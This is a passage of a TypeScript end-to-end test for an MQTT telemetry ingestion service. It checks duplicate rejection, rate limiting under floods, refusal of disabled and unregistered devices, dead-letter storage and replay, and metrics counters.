      async () => (await storedIds()).size >= goodMessages.length,
      { timeoutMs: 90_000, intervalMs: 500 },
    );

    console.log(`edge e2e: phase 1 stored after ${elapsed()}`);

    // Phase 2: duplicates of accepted messages, a flood, a device disabled and enabled, a late registration.
    const duplicates: Bad[] = [];
    for (const original of shuffle([...goodMessages]).slice(0, 50))
      duplicates.push({ ...original, category: 'duplicates (message id)', expected: RejectCode.Duplicate });
    for (const original of shuffle(goodMessages.filter((m) => m.contentType !== PROTOBUF)).slice(0, 30)) {
      // Same content (kind, ts, seq, metrics) under a new message id.
      const body = {
        messageId: `${original.messageId}-again`,
        ts: original.ts,
        seq: original.seq,
        metrics: original.metrics,
      };
      duplicates.push({
        topic: original.topic,
        payload: Buffer.from(JSON.stringify(body)),
        category: 'duplicates (content)',
        expected: RejectCode.Duplicate,
      });
    }
    const flood = Array.from({ length: FLOOD }, () => good(floodId, { format: 'json' }));

    // Disabling takes effect within a second: the device was seen (cached as enabled) just before.
    const seenBefore = good(toggledId);
    await pub.publish(seenBefore);
    await waitFor(
      `${seenBefore.messageId} stored`,
      async () => (await storedIds()).has(seenBefore.messageId),
      {
        timeoutMs: 30_000,
      },
    );
    assert.equal((await admin('PATCH', `/${toggledId}`, { status: 'disabled' })).status, 200);
    await sleep(1_000);
    const whileDisabled = good(toggledId);
    const disabledBad: Bad = {
      ...whileDisabled,
      category: 'disabled device',
      expected: RejectCode.UnknownDevice,
    };
    await pub.publish(whileDisabled);
    await waitFor('the disabled device refused', async () =>
      (await deadLetters()).some((r) => rowKey(r) === keyOf(disabledBad)),
    );
    assert.equal((await admin('PATCH', `/${toggledId}`, { status: 'enabled' })).status, 200);
    await sleep(1_000);
    const afterEnabled = good(toggledId);

    // A device that sends before it is registered: refused; registered; its dead letter replayed (CLI).
    const early = good(lateId, { format: 'json' });
    const earlyBad: Bad = { ...early, category: 'not registered yet', expected: RejectCode.UnknownDevice };

    console.log(`edge e2e: disabled device refused after ${elapsed()}`);
    const t1 = Date.now();
    await Promise.all([
      pub.publishAll(shuffle([...duplicates])),
      pub.publishAll(flood),
      pub.publish(afterEnabled),
      pub.publish(early),
    ]);
    const floodSeconds = (Date.now() - t1) / 1000;

    const deadRow = await waitFor('the early message dead-lettered', async () =>
      (await deadLetters()).find((r) => rowKey(r) === keyOf(earlyBad)),
    );
    const cli = (...args: string[]) =>
      execFileAsync(process.execPath, [join(REPO_ROOT, 'dist/tools/cli/src/main.js'), ...args], {
        env: {
          ...process.env,
          DMP_ADMIN_URL: mqttApp.baseUrl,
          ADMIN_TOKEN: adminToken,
          CLICKHOUSE_DATABASE: database,
          MQTT_SERVICE_USERNAME: service.username,
          MQTT_SERVICE_PASSWORD: service.password,
        },
      });
    const registered = await cli('devices', 'register', lateId, '--tenant', 't-edge');
    assert.equal((JSON.parse(registered.stdout) as { device: { deviceId: string } }).device.deviceId, lateId);
    const listed = await cli(
      'dead-letters',
      'list',
      '--device',
      lateId,
      '--code',
      RejectCode.UnknownDevice,
      '--since',
      '10m',
    );
    assert.match(listed.stdout, new RegExp(deadRow.message_id));
    const replayed = await cli('dead-letters', 'replay', '--id', deadRow.message_id);
    assert.match(replayed.stdout, new RegExp(`replayed ${deadRow.message_id}`));

    console.log(`edge e2e: replayed after ${elapsed()}`);

    // ---- Everything settles ----
    const expectedGood = new Set([...goodMessages, seenBefore, afterEnabled, early].map((m) => m.messageId));
    const expectedBad = [...bad, ...duplicates, disabledBad, earlyBad];
    const floodIds = new Set(flood.map((m) => m.messageId));
    const floodKeys = new Set(flood.map(keyOf));
    let rows: DeadRow[] = [];
    let stored = new Set<string>();
    await waitFor(
      'every good message stored and every bad one dead-lettered',
      async () => {
        [rows, stored] = await Promise.all([deadLetters(), storedIds()]);
        const refused = new Set(rows.filter((r) => r.error_code === RejectCode.RateLimited).map(rowKey));
        const floodSettled = flood.filter((m) => stored.has(m.messageId) || refused.has(keyOf(m))).length;
        return (
          [...expectedGood].every((id) => stored.has(id)) &&
          rows.length >= expectedBad.length &&
          floodSettled === FLOOD
        );
      },
      { timeoutMs: 90_000, intervalMs: 1_000 },
    );

    console.log(`edge e2e: settled after ${elapsed()}`);

    // Bad: each exactly once in the dead-letter store, with its expected reason and its raw payload.
    const byKey = new Map<string, DeadRow[]>();
    for (const row of rows) byKey.set(rowKey(row), [...(byKey.get(rowKey(row)) ?? []), row]);
    const wrong: string[] = [];
    for (const b of expectedBad) {
      const found = byKey.get(keyOf(b)) ?? [];
      const codes = found.map((r) => r.error_code);
      if (codes.length !== 1 || codes[0] !== b.expected)
        wrong.push(
          `${b.category}: ${b.topic} (${b.payload.length} bytes) expected ${b.expected}, got [${codes.join(', ')}]`,
        );
    }
    assert.deepEqual(wrong.slice(0, 20), [], `${wrong.length} bad input(s) not refused as expected`);

    // Good: exactly the expected set (plus the flood's messages that got through), nothing else of this run.
    const floodStored = [...stored].filter((id) => floodIds.has(id));
    const unexpected = [...stored].filter((id) => !floodIds.has(id) && !expectedGood.has(id));
    const missing = [...expectedGood].filter((id) => !stored.has(id));
    assert.deepEqual(
      { unexpected, missing },
      { unexpected: [], missing: [] },
      'telemetry_raw holds exactly the good messages',
    );

    // The flood: what the bucket let through is stored, the rest refused as rate-limited, none both.
    const floodRefused = rows.filter((r) => floodKeys.has(rowKey(r)));
    assert.ok(floodRefused.every((r) => r.error_code === RejectCode.RateLimited));
    assert.equal(
      floodRefused.length + floodStored.length,
      FLOOD,
      'every flood message stored or refused, once',
    );
    const allowedAtMost = RATE.burst + Math.ceil(RATE.perSecond * (floodSeconds + 2));
    assert.ok(floodStored.length <= allowedAtMost, `${floodStored.length} flood messages got through`);
    assert.ok(floodRefused.length >= FLOOD - allowedAtMost, `${floodRefused.length} flood messages refused`);

    // Nothing of this run in the dead-letter store that was not a bad input or the flood; no heartbeat.
    const known = new Set([...expectedBad.map(keyOf), ...floodKeys]);
    assert.deepEqual(
      rows.filter((r) => !known.has(rowKey(r))).map((r) => `${r.error_code} ${r.source_topic}`),
      [],
    );
    assert.equal(rows.filter((r) => r.source_topic.endsWith('/heartbeat')).length, 0);

    // Metrics: every refusal counted by reason; the counters agree with the dead-letter store.
    const expectedByReason = new Map<string, number>();
    for (const b of expectedBad)
      expectedByReason.set(b.expected, (expectedByReason.get(b.expected) ?? 0) + 1);
    expectedByReason.set(RejectCode.RateLimited, floodRefused.length);
    for (const [reason, expected] of expectedByReason) {
      const rejected = await readMetric(mqttApp.baseUrl, 'dmp_mqtt_rejected_total', { reason });
      const deadLettered = await readMetric(mqttApp.baseUrl, 'dmp_mqtt_dead_lettered_total', { reason });
      // At least this run's (other traffic on the shared broker may add to them).
      assert.ok(rejected >= expected, `${reason}: ${rejected} counted, ${expected} expected`);
      assert.ok(deadLettered >= rejected, `${reason}: ${deadLettered} dead-lettered, ${rejected} refused`);
      const [{ stored: inStore } = { stored: '0' }] = await query<{ stored: string }>(
        `SELECT count() AS stored FROM ${database}.dead_letters FINAL
         WHERE source_instance = '${clientId}' AND error_code = '${reason}'`,
      );
      const counted = await readMetric(mqttApp.baseUrl, 'dmp_mqtt_rejected_total', { reason });
      assert.ok(
        Number(inStore) >= expected && Number(inStore) <= counted,
        `${reason}: ${inStore} in store, ${rejected}..${counted} counted`,
      );
    }
    assert.ok(
      (await readMetric(mqttApp.baseUrl, 'dmp_mqtt_filtered_total', { reason: RejectCode.Heartbeat })) >= 50,
    );
    assert.ok((await readMetric(mqttApp.baseUrl, 'dmp_mqtt_dedup_hits_total')) >= duplicates.length);
    assert.ok((await readMetric(mqttApp.baseUrl, 'dmp_mqtt_rate_limit_hits_total')) >= floodRefused.length);

    // Good data arrives intact: injection strings and unicode as text values, byte for byte.
    const withNotes = goodMessages.filter((m) => typeof m.metrics.note === 'string');
    const texts = await query<{ message_id: string; text_names: string[]; text_values: string[] }>(
      `SELECT message_id, text_names, text_values FROM ${database}.telemetry_raw FINAL
       WHERE device_id LIKE '${prefix}-g%' AND has(text_names, 'note')`,
    );
    const noteById = new Map(texts.map((r) => [r.message_id, r.text_values[r.text_names.indexOf('note')]]));
    for (const m of withNotes) assert.equal(noteById.get(m.messageId), m.metrics.note, m.messageId);

    for (const app of apps)
      assert.equal((await fetch(`${app.baseUrl}/health`)).status, 200, `${app.name} is healthy`);
    console.log(
      `edge e2e: ${expectedGood.size} good stored, ${expectedBad.length} bad refused as expected, flood ${floodStored.length} through / ${floodRefused.length} refused`,
    );
  });

  it('a flood of refused messages cannot starve good traffic: good messages arrive in time, every refused one is dead-lettered, packed', async () => {
    const pub = publisher!;
    const flood: Publish[] = [];
    for (let d = 0; d < UNKNOWN_DEVICES; d++)
      for (let i = 0; i < UNKNOWN_PER_DEVICE; i++) {
        const deviceId = unknownId(d);
        flood.push({
          topic: `devices/${deviceId}/telemetry`,
          payload: Buffer.from(JSON.stringify(validBody(random() < 0.5 ? deviceId : undefined))),
        });
      }
    assert.equal(new Set(flood.map(keyOf)).size, flood.length, 'flood payloads are unique');
    const goodMessages: Good[] = [];
    for (let d = 0; d < GOOD_DURING_FLOOD_DEVICES; d++)
      for (let i = 0; i < GOOD_DURING_FLOOD_PER_DEVICE; i++) goodMessages.push(good(goodId(d)));
    // Spread the good messages through the flood, each device's in order.
    const nextGood = [...goodMessages];
    const mixed = shuffle<Publish | undefined>([...flood, ...goodMessages.map(() => undefined)]).map(
      (m) => m ?? nextGood.shift()!,
    );
    const goodIds = new Set(mixed.filter((m): m is Good => 'messageId' in m).map((m) => m.messageId));
    assert.equal(goodIds.size, GOOD_DURING_FLOOD_DEVICES * GOOD_DURING_FLOOD_PER_DEVICE);

    const metric = (name: string, labels: Record<string, string> = {}) =>
      readMetric(mqttApp.baseUrl, name, labels);
    const unknown = { reason: RejectCode.UnknownDevice };
    const before = {
      rejected: await metric('dmp_mqtt_rejected_total', unknown),
      deadLettered: await metric('dmp_mqtt_dead_lettered_total', unknown),
      lettered: await metric('dmp_mqtt_dead_letter_batch_messages_sum'),
      sends: await metric('dmp_mqtt_dead_letter_batch_messages_count'),
      refused: await metric('dmp_mqtt_dead_letter_failures_total', { kind: 'refused' }),
    };

    const t0 = Date.now();
    await pub.publishAll(mixed);
    const publishedMs = Date.now() - t0;
    console.log(
      `edge e2e: flood of ${flood.length} refused + ${goodIds.size} good published in ${publishedMs} ms`,
    );

    // Good traffic is not held behind the flood's dead letters.
    await waitFor(
      () => `every good message sent during the flood stored within ${GOOD_WITHIN_MS} ms`,
      async () => {
        const stored = await storedIds();
        return [...goodIds].every((id) => stored.has(id));
      },
      { timeoutMs: GOOD_WITHIN_MS, intervalMs: 250 },
    );
    const goodMs = Date.now() - t0;
    console.log(`edge e2e: flood: every good message stored ${goodMs} ms after the first publish`);

    // Every refused message dead-lettered, with its raw payload, exactly once.
    const floodRows = () =>
      query<DeadRow>(
        `SELECT message_id, error_code, source_topic, content_type, payload, device_id, source
         FROM ${database}.dead_letters FINAL
         WHERE source_instance = '${clientId}' AND device_id LIKE '${prefix}-x%'`,
      );
    const rows = await waitFor(
      'every flood message in dead_letters',
      async () => {
        const found = await floodRows();
        return found.length >= flood.length ? found : undefined;
      },
      { timeoutMs: 60_000, intervalMs: 1_000 },
    );
    console.log(`edge e2e: flood: every refused message in dead_letters after ${Date.now() - t0} ms`);
    const floodKeys = new Set(flood.map(keyOf));
    assert.equal(rows.length, flood.length, 'each refused message once');
    assert.deepEqual(new Set(rows.map(rowKey)), floodKeys, 'the raw payloads, byte for byte');
    assert.ok(rows.every((r) => r.error_code === RejectCode.UnknownDevice && r.source === 'dmp-mqtt'));
    assert.ok(
      rows.every((r) => /\.\d+$/.test(r.message_id)),
      'each row is an entry of a batch: <RocketMQ id>.<n>',
    );
    const batches = new Set(rows.map((r) => r.message_id.replace(/\.\d+$/, ''))).size;

    // Counted and dead-lettered, packed into far fewer sends, none refused by RocketMQ.
    const after = {
      rejected: await metric('dmp_mqtt_rejected_total', unknown),
      deadLettered: await metric('dmp_mqtt_dead_lettered_total', unknown),
      lettered: await metric('dmp_mqtt_dead_letter_batch_messages_sum'),
      sends: await metric('dmp_mqtt_dead_letter_batch_messages_count'),
      refused: await metric('dmp_mqtt_dead_letter_failures_total', { kind: 'refused' }),
    };
    // At least this run's: other traffic on the shared broker reaches this dmp-mqtt too (devices/#).
    assert.ok(
      after.rejected - before.rejected >= flood.length,
      `${after.rejected - before.rejected} counted`,
    );
    assert.ok(after.deadLettered - before.deadLettered >= flood.length);
    assert.equal(after.refused - before.refused, 0, 'RocketMQ refused no dead letter');
    const perSend = (after.lettered - before.lettered) / (after.sends - before.sends);
    console.log(
      `edge e2e: flood: ${flood.length} refused messages in ${batches} RocketMQ messages; ` +
        `${(after.lettered - before.lettered).toFixed(0)} dead letters in ${after.sends - before.sends} sends (${perSend.toFixed(1)} per send)`,
    );
    // How many share a send depends on how fast they arrive against a send's round trip: only "packed".
    assert.ok(batches < flood.length, `${batches} RocketMQ messages for ${flood.length} dead letters`);

    // Nothing left waiting, and healthy.
    await waitFor('the dead-letter queue empty', async () => {
      const waiting =
        (await metric('dmp_mqtt_dead_letter_queued')) + (await metric('dmp_mqtt_dead_letter_in_flight'));
      return waiting === 0;
    });
    for (const app of apps)
      assert.equal((await fetch(`${app.baseUrl}/health`)).status, 200, `${app.name} is healthy`);
    assert.ok(goodMs <= GOOD_WITHIN_MS + publishedMs);
  });
});
